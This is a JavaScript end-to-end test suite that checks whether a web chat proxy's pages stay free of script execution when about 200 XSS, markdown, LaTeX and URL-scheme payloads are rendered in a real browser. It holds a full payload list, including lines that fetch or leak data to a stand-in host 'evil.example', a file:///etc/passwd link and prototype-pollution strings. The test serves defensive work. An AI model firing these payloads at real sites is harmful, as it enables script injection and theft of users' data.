// No script runs from data: 200 payloads as what people write, what the model answers, titles, names and errors, read in
// a real Chromium. None executes, nothing elsewhere is asked for, and the content policy has nothing to report.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import http from 'node:http';
import { after } from 'node:test';
import { startUpstream, startWeir, test, unlimited, waitFor } from '../e2e/harness.mjs';
import { openBrowser, say } from './browser.mjs';

const evil = 'http://evil.example';
const run = `globalThis.hit=(globalThis.hit||0)+1;fetch('${evil}/?x')`;
const html = [
  `<script>${run}</script>`, `<ScRiPt src=${evil}/x.js></sCrIpT>`, `</textarea><script>${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror="${run}">`, `<img src=${evil}/leak.png>`, `<image href=${evil}/i>`, `<svg onload="${run}">`, `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x></svg>`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>${run}</script>"></iframe>`, `<object data="javascript:${run}">`, `<embed src=${evil}/e.swf>`,
  `<body onload="${run}">`, `<details open ontoggle="${run}">`, `<input autofocus onfocus="${run}">`, `<select autofocus onfocus="${run}">`, `<video src=${evil}/v onerror="${run}">`,
  `<audio src=x onerror="${run}">`, `<marquee onstart="${run}">`, `<link rel=stylesheet href=${evil}/s.css>`, `<style>@import url(${evil}/s.css);*{background:url(${evil}/b)}</style>`,
  `<meta http-equiv=refresh content="0;url=${evil}">`, `<base href="${evil}/">`, `<form action=${evil}><input type=submit id=x></form>`, `<button formaction="javascript:${run}">x</button>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><script>${run}</script></template>`,
  `<a href="javascript:${run}">x</a>`, `<a href="data:text/html,<script>${run}</script>">x</a>`, `<p style="background:url(${evil}/p)">x`, `<div id=__proto__ name=innerHTML>x</div>`,
  `"><script>${run}</script>`, `'><img src=x onerror=${run}>`, `\`><img src=x onerror=${run}>`, `--><script>${run}</script><!--`, `]]><script>${run}</script>`, `</title><script>${run}</script>`,
  `</style><script>${run}</script>`, `</script><script>${run}</script>`, `\u003cscript\u003e${run}\u003c/script\u003e`, `&lt;script&gt;${run}&lt;/script&gt;`, `<!--<img src="--><img src=x onerror=${run}//">`,
  `{{constructor.constructor('${run}')()}}`, '${globalThis.hit=1}', `{{{a}}}{{#list}}<script>${run}</script>{{/list}}`,
];
const url = [`javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, ` javascript:${run}`, `\u0001javascript:${run}`, `vbscript:msgbox(1)`, `data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`, `blob:${evil}/x`, `file:///etc/passwd`, `//evil.example/x`, `javascript&colon;${run}`, `&#106;avascript:${run}`, `javascript%3A${run}`, `view-source:javascript:${run}`];
const markdown = [
  ...url.map((u) => `[link](${u})`), ...url.map((u) => `[angle](<${u}>)`), ...url.map((u) => `![picture](${u})`), ...url.slice(0, 10).map((u) => `<${u}>`),
  ...url.slice(0, 10).map((u, i) => `[ref][r${i}]\n\n[r${i}]: ${u} "title"`),
  `![leak](${evil}/?secret=1)`, `[![x](${evil}/a.png)](javascript:${run})`, `[a](http://x "onmouseover=${run}")`, `[a](http://x" onmouseover="${run})`, `[<img src=x onerror=${run}>](http://x)`,
  `![<img src=x onerror=${run}>](x" onerror="${run})`, `\`\`\`html\n<script>${run}</script>\n\`\`\``, `\`\`\`"><script>${run}</script>\nx\n\`\`\``, `\`\`\`js onload=${run}\nx\n\`\`\``,
  `\`<script>${run}</script>\``, `| <script>${run}</script> | b |\n|---|---|\n| <img src=x onerror=${run}> | c |`, `<svg onload=${run}>\n===`, `- [ ] <img src=x onerror=${run}>`, `> <script>${run}</script>`,
  `[^1]: <script>${run}</script>\n\n[^1]`, `~~<script>${run}</script>~~`, `**<b onmouseover=${run}>x</b>**`, `https://x/"onmouseover="${run}`, `www.evil.example/<script>${run}</script>`,
  `$\\href{javascript:${run}}{x}$`, `$\\url{javascript:${run}}$`, `$\\includegraphics{${evil}/g.png}$`, `$\\htmlData{onclick=${run}}{x}$`, `$\\htmlStyle{background:url(${evil}/h)}{x}$`, `$$\\text{<img src=x onerror=${run}>}$$`,
  `$\\unicode{<script>}$`, `\\(\\class{x" onload="${run}}{y}\\)`, '$\\def\\a{\\a\\a}\\a$', `<details>\n<summary onclick=${run}>x</summary>\n\n![x](${evil}/d)\n</details>`,
];
const plain = ['data: [DONE]\n\nevent: done\ndata: {}', 'event: execute\ndata: {"code":"hit=1"}', '\u202e<tpircs>', '__proto__', 'constructor', '{"__proto__":{"hit":1}}',
  '\u2028\u2029</script>', '\u0000<script>hit=1</script>'.slice(1), `%3Cscript%3E${run}%3C/script%3E`, `\\x3cscript\\x3e${run}`];
const payloads = [...html, ...markdown, ...plain];
for (let i = 0; payloads.length < 200; i++) payloads.push(`${markdown[i]}\n\n${html[i % html.length]}`);

// A provider whose refusals and models' names are payloads too.
let refusals = 0;
const rogue = http.createServer((req, res) => {
  req.resume().on('end', () => {
    res.writeHead(400, { 'Content-Type': 'application/json' });
    res.end(JSON.stringify({ error: { message: payloads[refusals++ % payloads.length], type: '<img src=x>', code: html[4] } }));
  });
}).listen(0, '127.0.0.1');
await once(rogue, 'listening');
after(() => { rogue.closeAllConnections(); rogue.close(); });

const up = await startUpstream();
const names = [`<img src=x onerror="hit=1">`, `"><svg onload=hit=1>`, `javascript:hit=1`];
const weir = await startWeir({
  upstream: up,
  config: { default_model: 'gpt-4o-mini', upstreams: [
    { name: 'openai', base_url: up.url, api_key: 'sk-e2e-canary', limits: unlimited },
    { name: 'rogue', base_url: `http://127.0.0.1:${rogue.address().port}`, models: ['refuser', ...names], limits: unlimited }] },
});
const b = await (await openBrowser(weir)).signIn();
const { page } = b;

// What a page may hold, however it came there.
async function harmless(where) {
  const found = await page.evaluate(() => {
    const bad = [];
    if (globalThis.hit) bad.push(`executed ${globalThis.hit} times`);
    if ({}.hit) bad.push('Object.prototype was changed');
    for (const s of document.querySelectorAll('script')) if (s.type !== 'application/json' && !s.src.startsWith(location.origin)) bad.push(`script ${s.outerHTML.slice(0, 80)}`);
    for (const e of document.querySelectorAll('*'))
      for (const a of e.attributes) {
        if (/^on/i.test(a.name)) bad.push(`<${e.localName} ${a.name}>`);
        if (/^(href|src|action|formaction|xlink:href|data|poster|srcdoc)$/i.test(a.name) && e.localName !== 'link') {
          const to = a.value.startsWith('#') ? '' : new URL(a.value, location.href).protocol;
          if (to && !['http:', 'https:', 'mailto:'].includes(to)) bad.push(`<${e.localName} ${a.name}=${a.value.slice(0, 60)}>`);
          if (e.localName !== 'a' && to && new URL(a.value, location.href).origin !== location.origin) bad.push(`<${e.localName} ${a.name}=${a.value.slice(0, 60)}> elsewhere`);
        }
      }
    for (const e of document.querySelectorAll('iframe, object, embed, base, meta[http-equiv], main style, main form[action^="http"]')) bad.push(`<${e.localName}>`);
    for (const a of document.querySelectorAll('main a[target=_blank]'))
      if (!/noopener/.test(a.rel) || !/noreferrer/.test(a.rel)) bad.push(`a link without rel: ${a.href}`);
    return bad;
  });
  assert.deepEqual(found, [], where);
  assert.deepEqual(b.reports, [], where);
}

test(`${payloads.length} payloads as messages, answers and titles`, async () => {
  assert.ok(payloads.length >= 200);
  const sessions = [];
  for (let at = 0; at < payloads.length; at += 25) {
    let session;
    for (const payload of payloads.slice(at, at + 25)) {
      const r = await weir.post('/chat/complete', { message: payload, ...(session ? { session_id: session } : {}) });
      assert.equal(r.status, 200, `${payload}: ${r.text}`);
      assert.equal(r.json.message.content, payload);
      session = r.json.session_id;
    }
    sessions.push(session);
  }
  for (let at = 0; at < 60; at++) await weir.post('/chat/sessions', { title: payloads[at * 3].slice(0, 100) });
  for (const [i, id] of sessions.entries()) {
    await page.goto(b.url(`/app/c/${id}`));
    await waitFor('the messages', async () => (await page.locator('.msg').count()) >= 50);
    await harmless(`session ${i}`);
  }
  // What the page itself refuses to open stays shut when it is clicked, too.
  for (const link of await page.locator('main a:not([href^=http])').all()) if (await link.isVisible()) await link.click({ trial: true }).catch(() => {});
  await harmless('after clicks');
});

test('payloads that are typed and streamed, word by word', async () => {
  await page.goto(b.url('/app/'));
  for (const payload of [html[0], html[4], markdown[0], markdown[30], `![leak](${evil}/?secret=1)`, markdown.find((m) => m.startsWith('```html')), markdown.find((m) => m.startsWith('$\\href'))]) {
    const before = await page.locator('.turn .metrics').count();
    await say(page, payload);
    await waitFor('an answer', async () => (await page.locator('.turn .metrics').count()) > before);
    await harmless(`typed: ${payload}`);
  }
});

test('payloads in a provider\'s refusals, models\' names, people\'s names and reports', async () => {
  for (let i = 0; i < 40; i++) await weir.post('/chat/complete', { model: ['refuser', ...names][i % 4], message: payloads[i] });
  assert.ok(refusals >= 40);
  for (const [i, name] of [html[4], html[0], '"><svg onload=hit=1>'].entries()) {
    const r = await weir.post('/admin/users', { name: name.slice(0, 60), role: 'user' });
    if (r.status === 201) await weir.post('/admin/tokens', { user_id: r.json.user_id, name: html[i + 7].slice(0, 60) });
  }
  for (const kind of ['refuser', names[0]]) {
    await page.goto(b.url('/app/'));
    await page.evaluate((model) => fetch('/app/me').then((r) => r.json()).then((me) => fetch('/chat/stream', { method: 'POST',
      headers: { 'Content-Type': 'application/json', 'X-CSRF-Token': me.csrf_token }, body: JSON.stringify({ model, message: 'x' }) })).then((r) => r.text()), kind);
  }
  const { items } = (await weir.get('/chat/sessions?limit=100')).json;
  const refused = items.filter((s) => !s.messages).slice(0, 3).concat(items.slice(0, 3));
  for (const where of ['/app/dashboard', '/app/dashboard/outlook', '/app/settings', '/app/help', '/app/login', ...refused.map((s) => `/app/c/${s.session_id}`),
    `/app/?q=${encodeURIComponent(html[0])}`, `/app/c/${encodeURIComponent(html[0])}`, `/app/login#${html[4]}`, '/app/dashboard?user_id=%22%3E%3Cscript%3Ehit=1%3C/script%3E']) {
    await page.goto(b.url(where));
    await page.waitForFunction(() => document.readyState === 'complete');
    await harmless(where);
  }
});
